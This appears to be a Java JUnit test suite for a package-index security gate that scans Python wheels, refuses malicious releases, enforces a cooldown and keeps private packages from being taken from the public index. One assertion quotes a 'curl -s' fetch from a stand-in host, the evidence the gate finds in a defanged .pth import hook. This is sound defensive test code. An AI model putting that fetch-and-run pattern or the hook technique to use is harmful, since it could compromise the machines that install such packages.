package dev.kingsnake.gate;

import com.fasterxml.jackson.databind.JsonNode;
import dev.kingsnake.Scanner;
import dev.kingsnake.index.DistributionFile;
import dev.kingsnake.index.ProjectPage;
import dev.kingsnake.index.SimpleIndexParser;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The gate driven by the machine's real pip on loopback, in front of a {@link TestIndex}: defanged packages made
 * here and real wheels of the shared benign corpus (when present). Every file pip gets is checked against its
 * audit line, so a pip that fetched past the gate would fail the test. Skipped only where no pip exists.
 */
class GatePipTest {
    private static final Duration OLD = Duration.ofDays(30);
    private static final String PTH_HOOK = GateFixtures.PTH_HOOK;
    private static final String BENIGN_CODE = GateFixtures.BENIGN_CODE;

    private static Path dir;
    private static Pip pip;
    private static TestIndex upstream;
    private static GateServer gate;
    private static Path auditFile;
    private static Scanner scanner;

    @BeforeAll
    static void start() throws Exception {
        dir = Files.createTempDirectory("kingsnake-gate-test");
        pip = GateFixtures.pipOrSkip(dir);
        scanner = Scanner.builder().rules(GateFixtures.shippedRules()).build();
        upstream = new TestIndex().root("public", false, Duration.ZERO).root("private", true, Duration.ZERO)
                .root("slow", false, Duration.ofSeconds(5));
        auditFile = GateFixtures.auditFile(dir, "main");
        Path policy = dir.resolve("policy.toml");
        // the private index speaks HTML, which has no upload times: let those through the cooldown
        Files.writeString(policy, "min-age = \"3d\"\nunknown-upload-time = \"serve\"\n");
        gate = GateServer.start(config(upstream.simple("public"), Optional.of(upstream.simple("private")),
                GatePolicy.parse(Files.readString(policy)), "main", Duration.ofSeconds(10)));
    }

    @AfterAll
    static void stop() throws Exception {
        GateFixtures.stop(gate, upstream);
    }

    private static GateServer.Config config(URI up, Optional<URI> privateUp, GatePolicy policy, String name,
                                            Duration upstreamTimeout) throws IOException {
        return GateFixtures.config(dir, name, up, privateUp, policy, scanner, upstreamTimeout, Duration.ofSeconds(30));
    }

    private static String index(GateServer g) {
        return GateFixtures.index(g);
    }

    private static List<JsonNode> audit(Path file, String filename) throws IOException {
        return GateFixtures.audit(file, filename);
    }

    private static Path newDir(String name) throws IOException {
        return Files.createDirectories(dir.resolve(name));
    }

    /** Real wheels of the shared benign corpus, smallest first; empty where the corpus is absent. */
    private static List<Path> corpusWheels(int count) throws IOException {
        for (String root : List.of("../../shared/corpus/benign-dev", "../../../shared/corpus/benign-dev")) {
            Path p = Path.of(root);
            if (Files.isDirectory(p)) {
                try (Stream<Path> s = Files.list(p)) {
                    return s.filter(f -> f.getFileName().toString().matches("[A-Za-z0-9_.]+-[0-9][0-9.]*-py3-none-any\\.whl"))
                            .sorted((a, b) -> Long.compare(a.toFile().length(), b.toFile().length()))
                            .limit(count).toList();
                }
            }
        }
        return List.of();
    }

    @Test
    void benignFilesArriveByteIdenticalThroughTheGate() throws Exception {
        Map<String, byte[]> expected = new java.util.LinkedHashMap<>();
        List<String> specs = new ArrayList<>();
        byte[] demo = TestIndex.wheel("benign-demo", "1.0", Map.of("benign_demo/__init__.py", BENIGN_CODE));
        upstream.add("public", "benign-demo", TestIndex.wheelName("benign-demo", "1.0"), demo, OLD);
        expected.put(TestIndex.wheelName("benign-demo", "1.0"), demo);
        specs.add("benign-demo==1.0");
        for (Path wheel : corpusWheels(3)) {
            String filename = wheel.getFileName().toString();
            String[] parts = filename.split("-");
            byte[] bytes = Files.readAllBytes(wheel);
            upstream.add("public", dev.kingsnake.index.ProjectName.normalize(parts[0]), filename, bytes, OLD);
            expected.put(filename, bytes);
            specs.add(parts[0] + "==" + parts[1]);
        }
        Path out = newDir("benign");
        List<String> args = new ArrayList<>(List.of("download", "--no-deps", "-d", out.toString()));
        args.addAll(specs);
        Pip.Run run = Pip.finish(pip.start(index(gate), args));
        assertEquals(0, run.exit(), run.output());
        for (Map.Entry<String, byte[]> e : expected.entrySet()) {
            assertArrayEquals(e.getValue(), Files.readAllBytes(out.resolve(e.getKey())), e.getKey());
            List<JsonNode> lines = audit(auditFile, e.getKey());
            assertEquals(1, lines.size(), "one audit line for " + e.getKey());
            assertEquals("served", lines.get(0).path("action").asText());
            assertEquals(TestIndex.sha256(e.getValue()), lines.get(0).path("sha256").asText());
            assertTrue(lines.get(0).path("user_agent").asText().startsWith("pip/"), "pip asked, through the gate");
        }
        assertEquals(expected.size(), Pip.files(out).size());
    }

    @Test
    void maliciousReleaseIsRefusedWithTheReasonThenHiddenSoTheResolverTakesThePreviousOne() throws Exception {
        String good = TestIndex.wheelName("hidden-demo", "1.0");
        String bad = TestIndex.wheelName("hidden-demo", "1.1");
        upstream.add("public", "hidden-demo", good,
                TestIndex.wheel("hidden-demo", "1.0", Map.of("hidden_demo/__init__.py", BENIGN_CODE)), OLD);
        upstream.add("public", "hidden-demo", bad, TestIndex.wheel("hidden-demo", "1.1",
                Map.of("hidden_demo/__init__.py", BENIGN_CODE, "hidden_demo_init.pth", PTH_HOOK)), OLD);

        Pip.Run refused = pip.run(index(gate), "download", "--no-deps", "-d", newDir("malicious").toString(),
                "hidden-demo==1.1");
        assertNotEquals(0, refused.exit());
        assertTrue(refused.output().contains("403 Client Error: Refused by Kingsnake gate: MALICIOUS"), refused.output());
        assertTrue(refused.output().contains("KS-IMPORT-PTH-CODE at hidden_demo_init.pth:1"), refused.output());
        assertEquals(List.of(), Pip.files(dir.resolve("malicious")));
        JsonNode line = audit(auditFile, bad).get(0);
        assertEquals("refused", line.path("action").asText());
        assertEquals("MALICIOUS", line.path("verdict").asText());
        assertTrue(line.path("rules").toString().contains("KS-IMPORT-PTH-CODE"), line.toString());

        HttpResponse<String> body = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + gate.port() + "/files/hidden-demo/" + bad)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(403, body.statusCode());
        assertTrue(body.body().contains("curl -s http://example.invalid/b.sh"), "the body shows the evidence");
        assertTrue(body.body().contains("allow list"), "and how to appeal");

        Path target = newDir("installed");
        Pip.Run install = pip.run(index(gate), "install", "--no-compile", "--target", target.toString(), "hidden-demo");
        assertEquals(0, install.exit(), install.output());
        assertTrue(Files.isDirectory(target.resolve("hidden_demo-1.0.dist-info")), install.output());
        assertTrue(audit(auditFile, bad).stream().anyMatch(n -> n.path("action").asText().equals("hidden")),
                "the known-bad file was left out of the page");
        assertEquals("served", audit(auditFile, good).get(0).path("action").asText());
    }

    @Test
    void cooldownHidesYoungFilesAndYankedOnesStayYanked() throws Exception {
        String old = TestIndex.wheelName("fresh-demo", "1.0");
        String young = TestIndex.wheelName("fresh-demo", "1.1");
        upstream.add("public", "fresh-demo", old, TestIndex.wheel("fresh-demo", "1.0", Map.of()), Duration.ofDays(10));
        upstream.add("public", "fresh-demo", young, TestIndex.wheel("fresh-demo", "1.1", Map.of()), Duration.ofHours(1));
        Path out = newDir("cooldown");
        Pip.Run run = pip.run(index(gate), "download", "--no-deps", "-d", out.toString(), "fresh-demo");
        assertEquals(0, run.exit(), run.output());
        assertEquals(List.of(out.resolve(old)), Pip.files(out));
        Pip.Run pinned = pip.run(index(gate), "download", "--no-deps", "-d", out.toString(), "fresh-demo==1.1");
        assertNotEquals(0, pinned.exit());
        assertTrue(audit(auditFile, young).get(0).path("reason").asText().contains("younger than the gate's cooldown of 3d"));

        String kept = TestIndex.wheelName("yank-demo", "1.0");
        String yanked = TestIndex.wheelName("yank-demo", "2.0");
        upstream.add("public", "yank-demo", kept, TestIndex.wheel("yank-demo", "1.0", Map.of()), OLD);
        byte[] yankedBytes = TestIndex.wheel("yank-demo", "2.0", Map.of());
        upstream.add("public", new TestIndex.Listed("yank-demo", yanked, yankedBytes, TestIndex.sha256(yankedBytes),
                java.time.Instant.now().minus(OLD), Optional.of("broken build"), Duration.ZERO));
        Path y = newDir("yanked");
        Pip.Run latest = pip.run(index(gate), "download", "--no-deps", "-d", y.toString(), "yank-demo");
        assertEquals(0, latest.exit(), latest.output());
        assertEquals(List.of(y.resolve(kept)), Pip.files(y), "pip skips the yanked release");
        Pip.Run exact = pip.run(index(gate), "download", "--no-deps", "-d", y.toString(), "yank-demo==2.0");
        assertEquals(0, exact.exit(), exact.output());
        assertTrue(exact.output().contains("Reason for being yanked: broken build"), exact.output());

        HttpResponse<String> html = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create(index(gate) + "yank-demo/")).header("Accept", "text/html").build(),
                HttpResponse.BodyHandlers.ofString());
        ProjectPage page = SimpleIndexParser.parse(html.headers().firstValue("Content-Type").orElseThrow(), html.body(),
                URI.create(index(gate) + "yank-demo/"), "yank-demo");
        assertEquals(Optional.of("broken build"), page.file(yanked).orElseThrow().yanked());
        assertEquals(Optional.of(">=3.7"), page.file(kept).orElseThrow().requiresPython());
        assertEquals(Optional.of(TestIndex.sha256(yankedBytes)), page.file(yanked).orElseThrow().sha256());
    }

    @Test
    void coreMetadataIsPassedOnWithItsHashChecked() throws Exception {
        String name = TestIndex.wheelName("meta-demo", "1.0");
        String liar = TestIndex.wheelName("meta-demo", "1.1");
        upstream.add("public", "meta-demo", name, TestIndex.wheel("meta-demo", "1.0", Map.of()), OLD);
        upstream.add("public", "meta-demo", liar, TestIndex.wheel("meta-demo", "1.1", Map.of()), OLD);
        byte[] metadata = "Metadata-Version: 2.1\nName: meta-demo\nVersion: 1.0\n".getBytes(StandardCharsets.UTF_8);
        upstream.addMetadata(name, metadata, TestIndex.sha256(metadata));
        upstream.addMetadata(liar, metadata, "0".repeat(64));
        HttpClient http = HttpClient.newHttpClient();
        HttpResponse<String> page = http.send(HttpRequest.newBuilder(URI.create(index(gate) + "meta-demo/"))
                .header("Accept", SimpleIndexParser.JSON_TYPE).build(), HttpResponse.BodyHandlers.ofString());
        ProjectPage parsed = SimpleIndexParser.parse(SimpleIndexParser.JSON_TYPE, page.body(),
                URI.create(index(gate) + "meta-demo/"), "meta-demo");
        DistributionFile listed = parsed.file(name).orElseThrow();
        assertEquals(Optional.of(Map.of("sha256", TestIndex.sha256(metadata))), listed.coreMetadata());
        HttpResponse<byte[]> served = http.send(HttpRequest.newBuilder(listed.coreMetadataUrl().orElseThrow()).build(),
                HttpResponse.BodyHandlers.ofByteArray());
        assertEquals(200, served.statusCode());
        assertArrayEquals(metadata, served.body());
        HttpResponse<String> lying = http.send(HttpRequest.newBuilder(
                parsed.file(liar).orElseThrow().coreMetadataUrl().orElseThrow()).build(),
                HttpResponse.BodyHandlers.ofString());
        assertEquals(502, lying.statusCode());
        assertTrue(lying.body().contains("does not match its index"), lying.body());
    }

    @Test
    void aFileThatDoesNotMatchItsIndexHashIsRefused() throws Exception {
        String name = TestIndex.wheelName("liar-demo", "1.0");
        byte[] bytes = TestIndex.wheel("liar-demo", "1.0", Map.of("liar_demo/__init__.py", BENIGN_CODE));
        upstream.add("public", new TestIndex.Listed("liar-demo", name, bytes, "0".repeat(64),
                java.time.Instant.now().minus(OLD), Optional.empty(), Duration.ZERO));
        Pip.Run run = pip.run(index(gate), "download", "--no-deps", "-d", newDir("liar").toString(), "liar-demo==1.0");
        assertNotEquals(0, run.exit());
        assertTrue(run.output().contains("502 Server Error: Kingsnake gate: refused, the upstream's file does not match"),
                run.output());
        assertEquals("failed", audit(auditFile, name).get(0).path("action").asText());
    }

    @Test
    void aProjectOfThePrivateIndexIsNeverTakenFromThePublicOne() throws Exception {
        String mine = TestIndex.wheelName("internal-lib", "1.0");
        String theirs = TestIndex.wheelName("internal-lib", "99.0");
        byte[] own = TestIndex.wheel("internal-lib", "1.0", Map.of("internal_lib/__init__.py", BENIGN_CODE));
        upstream.add("private", "internal-lib", mine, own, OLD);
        upstream.add("public", "internal-lib", theirs, TestIndex.wheel("internal-lib", "99.0", Map.of()), OLD);
        Path out = newDir("private");
        Pip.Run run = pip.run(index(gate), "download", "--no-deps", "-d", out.toString(), "internal-lib");
        assertEquals(0, run.exit(), run.output());
        assertEquals(List.of(out.resolve(mine)), Pip.files(out));
        assertArrayEquals(own, Files.readAllBytes(out.resolve(mine)));
        assertEquals("private", audit(auditFile, mine).get(0).path("origin").asText());
        assertEquals(0, upstream.fileRequests(theirs));
    }

    @Test
    void twentyClientsAtOnceGetOneDownloadAndOneScan() throws Exception {
        String name = TestIndex.wheelName("popular-demo", "1.0");
        byte[] bytes = TestIndex.wheel("popular-demo", "1.0", Map.of("popular_demo/__init__.py", BENIGN_CODE));
        // the upstream holds the file back, so the clients' requests overlap while the first is in flight
        upstream.add("public", new TestIndex.Listed("popular-demo", name, bytes, TestIndex.sha256(bytes),
                java.time.Instant.now().minus(OLD), Optional.empty(), Duration.ofSeconds(3)));
        List<Process> clients = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            clients.add(pip.start(index(gate), List.of("download", "--no-deps", "-d",
                    newDir("crowd-" + i).toString(), "popular-demo==1.0")));
        }
        for (int i = 0; i < 20; i++) {
            Pip.Run run = Pip.finish(clients.get(i));
            assertEquals(0, run.exit(), run.output());
            assertArrayEquals(bytes, Files.readAllBytes(dir.resolve("crowd-" + i).resolve(name)));
        }
        assertEquals(1, upstream.fileRequests(name), "downloaded once");
        List<JsonNode> lines = audit(auditFile, name);
        assertEquals(20, lines.size());
        Set<String> scans = lines.stream().map(n -> n.path("scanned_at").asText()).collect(Collectors.toSet());
        assertEquals(1, scans.size(), "scanned once: " + scans);
        String metrics = HttpClient.newHttpClient().send(HttpRequest.newBuilder(
                URI.create("http://127.0.0.1:" + gate.port() + "/metrics")).build(),
                HttpResponse.BodyHandlers.ofString()).body();
        assertTrue(metrics.contains("kingsnake_gate_decisions_total{action=\"served\",verdict=\"benign\"}"), metrics);
        assertTrue(metrics.contains("kingsnake_gate_scans_seconds_count"), metrics);
    }

    @Test
    void aDownOrSlowUpstreamIsA502Or504WithAMessageNotAHang() throws Exception {
        int closedPort;
        try (ServerSocket s = new ServerSocket(0)) {
            closedPort = s.getLocalPort();
        }
        long start = System.nanoTime();
        // pip reports a failed index page only with -vv ("Could not fetch URL ... - skipping"), a failed file always
        try (GateServer down = GateServer.start(config(URI.create("http://127.0.0.1:" + closedPort + "/simple/"),
                Optional.empty(), GatePolicy.defaults(), "down", Duration.ofSeconds(1)))) {
            Pip.Run run = pip.run(index(down), "download", "-vv", "--no-deps", "-d", newDir("down").toString(), "anything");
            assertNotEquals(0, run.exit());
            assertTrue(run.output().contains("502 Server Error: Kingsnake gate: upstream index failed: connection refused"),
                    run.output());
        }
        String name = TestIndex.wheelName("sluggish-demo", "1.0");
        byte[] bytes = TestIndex.wheel("sluggish-demo", "1.0", Map.of());
        upstream.add("public", new TestIndex.Listed("sluggish-demo", name, bytes, TestIndex.sha256(bytes),
                java.time.Instant.now().minus(OLD), Optional.empty(), Duration.ofSeconds(5)));
        try (GateServer slowFiles = GateServer.start(config(upstream.simple("public"), Optional.empty(),
                GatePolicy.defaults(), "slow-files", Duration.ofSeconds(1)));
             GateServer slowPages = GateServer.start(config(upstream.simple("slow"), Optional.empty(),
                     GatePolicy.defaults(), "slow-pages", Duration.ofSeconds(1)))) {
            Pip.Run file = pip.run(index(slowFiles), "download", "--no-deps", "-d", newDir("slow").toString(),
                    "sluggish-demo==1.0");
            assertNotEquals(0, file.exit());
            assertTrue(file.output().contains("504 Server Error: Kingsnake gate: upstream index failed: no answer within 1000 ms"),
                    file.output());
            Pip.Run page = pip.run(index(slowPages), "download", "-vv", "--no-deps", "-d", newDir("slow").toString(),
                    "anything");
            assertNotEquals(0, page.exit());
            assertTrue(page.output().contains("504 Server Error: Kingsnake gate: upstream index failed: no answer"),
                    page.output());
        }
        assertTrue(System.nanoTime() - start < Duration.ofSeconds(120).toNanos(), "answered, not hung");
    }

    @Test
    void verdictsSurviveARestart() throws Exception {
        String name = TestIndex.wheelName("restart-demo", "1.0");
        byte[] bytes = TestIndex.wheel("restart-demo", "1.0", Map.of("restart_demo/__init__.py", BENIGN_CODE));
        upstream.add("public", "restart-demo", name, bytes, OLD);
        Path log = GateFixtures.auditFile(dir, "restart");
        GatePolicy policy = GatePolicy.defaults();
        try (GateServer first = GateServer.start(config(upstream.simple("public"), Optional.empty(), policy, "restart",
                Duration.ofSeconds(10)))) {
            assertEquals(0, pip.run(index(first), "download", "--no-deps", "-d", newDir("restart-1").toString(),
                    "restart-demo==1.0").exit());
        }
        List<JsonNode> before = audit(log, name);
        assertEquals(List.of(false), before.stream().map(n -> n.path("cached_verdict").asBoolean()).toList());
        // the second gate starts a new audit file under the same name
        try (GateServer second = GateServer.start(config(upstream.simple("public"), Optional.empty(), policy, "restart",
                Duration.ofSeconds(10)))) {
            Pip.Run run = pip.run(index(second), "download", "--no-deps", "-d", newDir("restart-2").toString(),
                    "restart-demo==1.0");
            assertEquals(0, run.exit(), run.output());
        }
        JsonNode after = audit(log, name).get(0);
        assertTrue(after.path("cached_verdict").asBoolean(), after.toString());
        assertEquals(before.get(0).path("scanned_at").asText(), after.path("scanned_at").asText());
        assertArrayEquals(bytes, Files.readAllBytes(dir.resolve("restart-2").resolve(name)));
    }
}
